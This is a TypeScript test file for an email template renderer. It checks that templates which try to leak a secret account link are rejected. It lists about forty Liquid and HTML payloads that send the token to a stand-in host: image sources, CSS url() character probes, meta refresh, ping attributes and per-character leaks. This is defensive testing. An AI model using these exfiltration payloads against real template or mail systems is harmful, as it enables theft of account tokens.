import { afterAll, expect, test } from 'vitest';
import { defaultBrand } from '@lintel/contract/brand';
import { silent } from '../../../../../test/renderer.ts';
import { HelperPool } from '../../../../platform/helper/pool.ts';
import { FieldError, MailRenderer } from './renderer.ts';

const pool = new HelperPool({
  size: 1,
  waiting: 9,
  bounds: { time: 5000, memory: 400_000_000, patience: 0 },
  log: silent,
  later: () => () => undefined,
});
afterAll(() => pool.close());

const renderer = new MailRenderer({
  brand: defaultBrand,
  publicUrl: 'https://portal.example.com',
  timeZone: 'America/New_York',
  pool,
});
const secret = 'S3cretTokenThatOpensAnAccount';
const link = `https://portal.example.com/np?m=${secret}&x=1`;
const frame = {
  subject: 'S',
  unsubscribeUrl: null,
  language: 'en',
  postalAddress: '',
  keepsLinks: true,
} as const;

const stranger = 'https://stranger.example';
const attacks: Record<string, string> = {
  'the address of a picture': `<img src="${stranger}/?{{ link }}">`,
  'the address of a picture, by assign': `{% assign u = "${stranger}/?" | append: link %}<img src="{{ u }}">`,
  'the address of a picture, by capture': `{% capture u %}${stranger}/?{{ link }}{% endcapture %}<img src="{{ u }}">`,
  'a foreign link': `<a href="${stranger}/?{{ link }}">x</a>`,
  'an encoded foreign link': `<a href="${stranger}/?{{ link | url_encode }}">x</a>`,
  'a replaced scheme': `<a href="{{ link | replace: 'https://', '${stranger}/?' }}">x</a>`,
  'a link with a suffix': '<a href="{{ link }}&more=1">x</a>',
  'a link after a space': '<a href=" {{ link }}">x</a>',
  'the first 20 characters': `<img src="${stranger}/{{ link | slice: 0, 20 }}">`,
  'the last 20 characters': `<img src="${stranger}/{{ link | slice: -20, 20 }}">`,
  'the last 20 characters in text': '<p>{{ link | slice: -20, 20 }}</p>',
  'an uppercase copy': `<img src="${stranger}/{{ link | upcase }}">`,
  'a lowercase copy': `<a href="{{ link | downcase }}">x</a>`,
  'split and joined parts': `<img src="${stranger}/{{ link | split: "m=" | last }}">`,
  'characters in reverse': `<img src="${stranger}/{{ link | split: "" | reverse | join: "" }}">`,
  'one character at a time': `{% assign all = link | split: "" %}{% for c in all %}<img src="${stranger}/{{ forloop.index }}/{{ c }}">{% endfor %}`,
  base64: `<img src="${stranger}/{{ link | base64_encode }}">`,
  'a comparison': `{% if link contains "a" %}<img src="${stranger}/a">{% endif %}`,
  'any attribute': '<p title="{{ link }}">x</p>',
  'the name of an attribute': '<p {{ link }}>x</p>',
  'an attribute without quotation marks': `<img src=${stranger}/?{{ link }}>`,
  'an unclosed attribute': `<p>x</p><img src="${stranger}/?{{ link }}`,
  'the attribute of an end tag': '<p>x</p data-x="{{ link }}">',
  'a second attribute of the same name': '<a href="https://a.example" href="{{ link }}">x</a>',
  'several sizes of a picture': `<img src="${stranger}" srcset="{{ link }} 2x">`,
  'a comment': '<!-- {{ link }} --><p>x</p>',
  'a conditional comment': `<!--[if mso]><a href="{{ link }}">x</a><![endif]-->`,
  'text after a conditional comment that ends within a tag': `<!--[if mso]><img src="${stranger}/?<![endif]--> {{ link }} <!--[if mso]>"><![endif]-->`,
  'a background in a style attribute': `<p style="background:url({{ link }})">x</p>`,
  'a style element': `<style>p { background: url(${stranger}/?{{ link }}) }</style><p>x</p>`,
  'a style that probes the characters of the link': `<style>@media screen { a[href*="a"] { background: url(${stranger}/a) } }</style><a href="{{ link }}">x</a>`,
  'a probing style with an escaped name': `<style>@media screen { a[href*="a"] { background: u\\72l(${stranger}/a) } }</style><a href="{{ link }}">x</a>`,
  'an image map': '<map><area href="{{ link }}"></map>',
  'the action of a form': '<form action="{{ link }}"></form>',
  'an automatic redirect': `<meta http-equiv="refresh" content="0;url=${stranger}/?{{ link }}">`,
  'a ping when the link is opened': `<a href="{{ link }}" ping="${stranger}">x</a>`,
  'a title': '<html><head><title>{{ link }}</title></head><body><p>x</p></body></html>',
  'invisible text': '<div style="display:none">{{ link }}</div><p>x</p>',
  'text hidden by a class': '<style>.x { display: none }</style><p class="x">{{ link }}</p>',
  'text joined to a foreign address': `<p>${stranger}/?{{ link }}</p>`,
  'text joined across elements': `<p><b>${stranger}/?</b><i>{{ link }}</i></p>`,
};

test.each(Object.entries(attacks))('rejects a secret link as %s', async (_name, source) => {
  const made = renderer.body(source, { link, nested: { own: link } }, frame);
  await expect(made).rejects.toBeInstanceOf(FieldError);
  await expect(made).rejects.toMatchObject({ problem: { field: 'body' } });
});

test("treats the product's own addresses as secret, under any name in the data", async () => {
  const data = { account: { restore: link } };
  await expect(
    renderer.body(`<img src="${stranger}/?{{ account.restore }}">`, data, frame),
  ).rejects.toBeInstanceOf(FieldError);
  const { html } = await renderer.body('<a href="{{ account.restore }}">x</a>', data, frame);
  expect(html).toContain(link.replace('&', '&amp;'));
});

test.each(['portal.example.com', secret])(
  'keeps the link whole when a template replaces %s in it',
  async (part) => {
    const source = `<a href="{{ link | replace: '${part}', '${stranger}' }}">x</a>`;
    const { html } = await renderer.body(source, { link }, frame);
    expect(html).toContain(link.replace('&', '&amp;'));
    expect(html).not.toContain(stranger);
  },
);
